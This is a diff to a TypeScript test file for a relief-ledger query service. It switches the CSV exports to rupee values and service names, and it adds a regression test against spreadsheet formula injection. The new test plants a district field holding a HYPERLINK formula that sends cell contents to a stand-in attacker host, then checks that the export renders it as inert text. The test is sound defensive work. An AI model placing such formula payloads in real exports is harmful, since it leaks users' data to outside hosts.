@@ -11,6 +11,7 @@ import {
   cbo,
   distribution,
   donor,
+  FORMULA_DISTRICT,
   fund,
   uid,
 } from "@relief-ledger/projections/testing";
@@ -36,7 +37,7 @@ let app: Awaited<ReturnType<typeof buildQueryApp>>;
 // the 30-day rule. One ART refill goes through a scheme. VAMP (Maharashtra) gives person 1 a kit.
 const LEDGER = [
   cbo("sangama-blr", "IN-KA"),
-  cbo("vamp-sangli", "IN-MH"),
+  cbo("vamp-sangli", "IN-MH", FORMULA_DISTRICT),
   donor("azim-trust"),
   fund({
     fund: 1,
@@ -206,15 +207,31 @@ describe("the query service", () => {
     const totals = await get("sangama", "/v1/cbos/sangama-blr/totals?format=csv");
     const lines = (totals.body as string).trim().split("\n");
     expect(lines[0]).toBe(
-      "cboId,state,district,service,month,distributions,valuePaise,persons,attributedPaise,unfundedPaise,schemePaise",
+      "cboId,state,district,service,serviceCode,month,distributions,valueInr,persons,attributedInr,unfundedInr,schemeInr",
     );
-    expect(lines[1]).toMatch(/^#org\+id,#adm1\+code,#adm2\+name,#sector,#date\+month,/);
-    expect(lines[3]).toBe("sangama-blr,IN-KA,Bengaluru Urban,grocery_kit,2021-05,4,600000,3,600000,0,0");
+    expect(lines[1]).toBe(
+      "#org+id,#adm1+code,#adm2+name,#sector,#sector+code,#date+month,#output+distributions,#value+inr,#reached+ind," +
+        "#value+inr+attributed,#value+inr+unfunded,#value+inr+scheme",
+    );
+    // Rupees with two decimals (₹6,000 of kits), the service by name with its code beside it.
+    expect(lines[3]).toBe(
+      "sangama-blr,IN-KA,Bengaluru Urban,Grocery kit,grocery_kit,2021-05,4,6000.00,3,6000.00,0.00,0.00",
+    );
     const attribution = await get("donor", "/v1/donors/azim-trust/attribution?format=csv");
     expect((attribution.body as string).trim().split("\n")[2]).toBe(
-      `${uid(1)},sangama-blr,grocery_kit,2021-05,600000,4,`,
+      `${uid(1)},sangama-blr,Grocery kit,grocery_kit,2021-05,6000.00,4,`,
     );
     expect((await get("auditor", "/v1/flags?format=csv")).body).toContain("#meta+flag+id");
+  });
+
+  it("shows a district planted as a spreadsheet formula as text in the CSV, never as a formula", async () => {
+    const csv = (await get("auditor", "/v1/cbos/vamp-sangli/totals?format=csv")).body as string;
+    const row = csv.trim().split("\n")[2]!;
+    expect(row).toBe(
+      `vamp-sangli,IN-MH,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",Grocery kit,grocery_kit,` +
+        "2021-06,1,1200.00,1,0.00,1200.00,0.00",
+    );
+    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
   });
 
   it("sends a CBO's totals as the same bytes as serialising them afresh", async () => {
